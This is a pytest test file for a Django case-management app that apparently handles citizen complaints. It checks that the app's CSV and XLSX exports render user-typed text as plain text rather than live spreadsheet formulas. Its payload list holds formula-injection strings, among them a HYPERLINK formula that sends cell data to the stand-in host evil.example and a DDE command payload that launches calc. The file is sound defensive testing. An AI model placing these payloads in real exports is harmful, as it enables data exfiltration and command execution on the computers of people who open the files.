"""Finding 5: text a citizen or a clerk typed never becomes a live formula in an export (the
oversight CSV and XLSX, the per-case history CSV, the public statistics CSV)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from cases import services
from cases.models import Role
from search.exports import to_csv, to_xlsx
from tests.workspace.conftest import make_case

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def _cells_start_like_formulas(rows) -> list[str]:
    def live(c):
        if not isinstance(c, str) or not c or c[0] not in "=+-@":
            return False
        try:
            float(c)  # a negative number is a number, not a formula
        except ValueError:
            return True
        return False

    return [c for row in rows for c in row if live(c)]


def test_oversight_csv_and_xlsx_keep_formulas_as_text(world):
    cases = [make_case(world, subject=p + " khiếu nại") for p in PAYLOADS]
    rows = [[c.reference, c.subject, -3] for c in cases]
    parsed = list(csv.reader(io.StringIO(to_csv(["Mã", "Tiêu đề", "n"], rows).decode("utf-8-sig"))))
    assert not _cells_start_like_formulas(parsed[1:])
    assert parsed[1][1] == "'" + cases[0].subject  # shown as typed, behind the apostrophe
    sheet = load_workbook(io.BytesIO(to_xlsx("t", ["Mã", "Tiêu đề", "n"], rows))).active
    values = list(sheet.values)[1:]
    assert not _cells_start_like_formulas(values)
    assert all(sheet.cell(row=i, column=2).data_type == "s" for i in range(2, len(rows) + 2))
    assert values[0][2] == -3  # numbers stay numbers


def test_the_per_case_history_csv_keeps_formulas_as_text(world, client):
    case = make_case(world, subject=PAYLOADS[0])
    head = world.user(Role.HEAD_OF_AGENCY)
    party = case.parties.first()
    services.party_identity_reveal(user=head, party=party, reason=PAYLOADS[3] + " kiểm tra")
    client.force_login(head)
    response = client.get(f"/admin/cases/{case.reference}/export.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert not _cells_start_like_formulas(rows)
    assert any(c == "'" + PAYLOADS[3] + " kiểm tra" for row in rows for c in row)
